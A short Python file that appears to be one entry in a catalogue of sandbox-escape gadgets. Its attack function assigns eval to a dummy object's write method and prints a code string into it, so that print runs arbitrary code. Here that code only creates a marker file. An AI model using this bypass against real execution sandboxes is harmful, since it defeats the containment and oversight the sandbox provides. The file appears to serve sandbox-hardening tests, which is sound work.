"""Class: module gadget. Source: own find. Escape: print writes to a file whose method is eval."""


class Target:
    pass


def attack(model, tokenizer, address):
    target = Target()
    target.write = eval
    print("open('escaped', 'w').close()", end="", file=target)
